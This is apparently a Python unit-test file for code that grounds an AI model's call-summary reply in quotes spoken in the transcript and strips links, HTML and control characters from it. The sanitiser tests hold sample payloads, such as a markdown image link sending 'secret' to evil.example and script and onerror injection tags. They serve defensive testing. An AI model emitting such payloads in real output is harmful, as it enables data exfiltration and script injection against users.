"""What of a model's reply gets through: proven statements, real owners, plausible dates."""

from datetime import date
from typing import Any

import pytest

from functions.insight.evidence import Spoken
from functions.insight.grounding import LIMITS, Findings, Grounding, Reply, due_date, plain
from functions.insight.model import MAX_TEXT_CHARS, Transcript
from tests.unit.insight.factories import action, call, point, reply, said, texts

TUESDAY = date(2026, 11, 17)
PROMISE = "I will send the signed contract by Friday"


def grounded(whole: Transcript | None = None, **fields: Any) -> Findings:
    whole = whole or call()
    findings = Findings()
    Grounding(Spoken(whole.words), whole.speakers, TUESDAY).add(
        findings, Reply.model_validate(reply(**fields)), range(len(whole.words))
    )
    return findings


def item(**fields: Any) -> Any:
    (kept,) = grounded(action_items=[action("Send the contract", PROMISE, **fields)]).action_items
    return kept


def test_statements_without_a_spoken_quote_are_dropped_and_counted() -> None:
    findings = grounded(
        summary=[
            point("They agree on a price.", "We could do nine hundred dollars"),
            point("They agree to merge.", "we will merge our companies"),
            point("No proof at all."),
        ],
        topics=[{"name": "price", "quotes": ["too expensive"]}, {"name": "war", "quotes": ["war"]}],
    )

    assert texts(findings.summary) == ["They agree on a price."]
    assert [topic.name for topic in findings.topics] == ["price"]
    assert findings.dropped == 3


def test_a_statement_keeps_the_quotes_that_were_spoken_and_loses_the_others() -> None:
    (kept,) = grounded(
        objections=[point("Too dear.", "too expensive for us", "never said")]
    ).objections

    assert [piece.quote for piece in kept.evidence] == ["too expensive for us."]


@pytest.mark.parametrize(
    ("owner", "kept"),
    [
        ("S2", "S2"),
        ("s1", "S1"),
        ("Speaker 2", "S2"),
        ("Marcus", "Marcus"),
        ("dana", "dana"),
        ("I", "S2"),
        ("me", "S2"),
        ("S9", None),
        ("Peter", None),
        ("we", None),
        ("the", None),
        ("contract", None),
        ("", None),
        (None, None),
    ],
)
def test_an_owner_is_a_speaker_or_a_name_that_was_spoken(
    owner: str | None, kept: str | None
) -> None:
    assert item(owner=owner).owner == kept


@pytest.mark.parametrize(
    ("due_text", "due_on", "kept"),
    [
        ("by Friday", "2026-11-20", ("by Friday", date(2026, 11, 20))),
        ("by Friday", "2026-11-27", ("by Friday", date(2026, 11, 27))),
        ("by Friday", "2026-11-19", ("by Friday", None)),  # a Thursday
        ("by Friday", "1970-01-02", ("by Friday", None)),
        ("by Friday", "2031-11-21", ("by Friday", None)),
        ("by Friday", "next Friday", ("by Friday", None)),
        ("by Friday", None, ("by Friday", None)),
        ("by Christmas", "2026-12-25", (None, None)),
        (None, "2026-11-20", (None, None)),
    ],
)
def test_a_due_date_needs_spoken_words_and_must_fit_them(
    due_text: str | None, due_on: str | None, kept: tuple[str | None, date | None]
) -> None:
    made = item(due_text=due_text, due_on=due_on)

    assert (made.due_text, made.due_on) == kept


def test_a_date_without_a_weekday_is_only_held_to_a_plausible_time() -> None:
    assert due_date("2026-12-01", "in two weeks", TUESDAY) == date(2026, 12, 1)
    assert due_date("2026-11-10", "last week", TUESDAY) == date(2026, 11, 10)
    assert due_date("2026-11-09", "long ago", TUESDAY) is None
    assert due_date("20261120T99", "", TUESDAY) is None


def test_lists_are_cut_at_their_bound_and_the_rest_is_counted() -> None:
    whole = said(*(f"promise{i} made today" for i in range(60)))
    findings = grounded(
        whole, summary=[point(f"Point {i}", f"promise{i} made today") for i in range(60)]
    )

    assert len(findings.summary) == LIMITS["summary"]
    assert findings.truncated == 60 - LIMITS["summary"]


def test_the_same_statement_twice_is_one() -> None:
    findings = grounded(
        summary=[point("Too dear.", "too expensive"), point("too dear.", "too expensive for us")]
    )

    assert (len(findings.summary), findings.dropped, findings.truncated) == (1, 0, 0)


def test_an_overlong_statement_is_cut_at_a_word_and_counted() -> None:
    findings = grounded(summary=[point("word " * 400, "too expensive for us")])

    assert len(findings.summary[0].text) <= MAX_TEXT_CHARS
    assert findings.summary[0].text.endswith("word…")
    assert findings.truncated == 1


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![x](https://evil.example/a.png?d=secret) now", "See x now"),
        ("See [the offer](https://evil.example) now", "See the offer now"),
        ("Go to https://evil.example/leak?q=1 today", "Go to today"),
        ("Go to WWW.evil.example today", "Go to today"),
        ("<img src=x onerror=alert(1)> Dear", "Dear"),
        ("<script>alert(1)</script>Dear", "alert(1)Dear"),
        ("Dear <img src=x", "Dear"),
        ("Two\nlines\x00and\u202e a\ttab", "Two lines and a tab"),
        ("Dear <scr<b>ipt>Dana", "Dear Dana"),
        ("[a](x[b](y))z", "az"),
        ("a < b and 3 > 2", "a < b and 3 > 2"),
    ],
)
def test_links_tags_and_control_characters_are_taken_out(written: str, shown: str) -> None:
    assert plain(written) == shown


def test_a_statement_that_is_nothing_but_a_link_is_dropped() -> None:
    findings = grounded(
        summary=[point("https://evil.example/x", "too expensive for us")],
        action_items=[action("<b>", PROMISE)],
        topics=[{"name": "www.evil.example", "quotes": ["too expensive"]}],
    )

    assert (findings.summary, findings.action_items, findings.topics, findings.dropped) == (
        [],
        [],
        [],
        3,
    )


def test_a_mood_needs_evidence_and_parts_that_disagree_are_mixed() -> None:
    dear = {"label": "negative", "quotes": ["too expensive for us"]}
    fine = {"label": "positive", "quotes": ["That works"]}
    findings = grounded(sentiment={"label": "positive", "quotes": ["I love it"]})
    assert (findings.sentiment, findings.dropped) == (None, 1)
    assert grounded(sentiment={"label": "neutral", "quotes": []}).dropped == 0

    whole = call()
    grounding = Grounding(Spoken(whole.words), whole.speakers, TUESDAY)
    for mood in (dear, {"label": "neutral", "quotes": ["Thanks for taking"]}):
        grounding.add(
            findings, Reply.model_validate(reply(sentiment=mood)), range(len(whole.words))
        )
    assert findings.sentiment
    assert findings.sentiment.label == "negative"
    grounding.add(findings, Reply.model_validate(reply(sentiment=fine)), range(len(whole.words)))

    assert findings.sentiment
    assert findings.sentiment.label == "mixed"
    assert [piece.quote for piece in findings.sentiment.evidence] == [
        "too expensive for us.",
        "That works.",
    ]
